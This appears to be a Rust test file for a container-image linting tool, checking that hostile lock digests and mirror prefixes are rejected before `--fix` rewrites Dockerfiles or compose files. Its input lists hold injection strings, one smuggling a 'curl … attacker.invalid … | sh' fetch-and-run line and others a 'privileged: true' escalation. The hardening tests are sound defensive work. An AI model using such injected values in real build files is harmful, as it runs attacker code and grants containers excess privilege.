//! Hostile inputs (issue "Hardening"): each test here failed on the code
//! before its fix.

use crate::common::imagelint;
use std::fs;

/// A lock value that is not a digest could write any text into a file
/// through `--fix`: the lock is refused when loaded, naming the key, and no
/// file changes.
#[test]
fn a_hostile_lock_cannot_inject_through_fix() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let dockerfile = "FROM nginx:1.25\n";
    let compose = "services:\n  web:\n    image: nginx:1.25\n";
    fs::write(d.join("Dockerfile"), dockerfile).unwrap();
    fs::write(d.join("compose.yaml"), compose).unwrap();
    for digest in [
        "sha256:zz\\nRUN curl -s http://attacker.invalid/x | sh",
        "sha256:0\\n    privileged: true",
    ] {
        fs::write(
            d.join("imagelint.lock"),
            format!("version = 1\n[digests]\n\"docker.io/library/nginx:1.25\" = \"{digest}\"\n"),
        )
        .unwrap();
        let run = imagelint(d, &["check", "--fix"]);
        assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
        assert!(
            run.stderr.contains("docker.io/library/nginx:1.25")
                && run.stderr.contains("imagelint.lock"),
            "{}",
            run.stderr
        );
        assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
        assert_eq!(
            fs::read_to_string(d.join("Dockerfile")).unwrap(),
            dockerfile
        );
        assert_eq!(fs::read_to_string(d.join("compose.yaml")).unwrap(), compose);
    }
}

/// A mirror prefix is written into files: one that is empty, holds spaces
/// or a line break, or names no registry host is a config error.
#[test]
fn mirror_prefixes_are_validated() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let compose = "services:\n  web:\n    image: nginx:1.25\n";
    fs::write(d.join("compose.yaml"), compose).unwrap();
    for prefix in [
        "",
        "/",
        "registry corp/dockerhub",
        "corp/dockerhub",
        "m.example/x\\n    privileged: true",
    ] {
        fs::write(
            d.join(".imagelint.toml"),
            format!("[mirrors]\n\"docker.io\" = \"{prefix}\"\n"),
        )
        .unwrap();
        let run = imagelint(d, &["check", "--fix"]);
        assert_eq!(run.code, 2, "{prefix:?}: {}{}", run.stdout, run.stderr);
        assert!(run.stderr.contains("[mirrors]"), "{}", run.stderr);
        assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
        assert_eq!(fs::read_to_string(d.join("compose.yaml")).unwrap(), compose);
    }
}
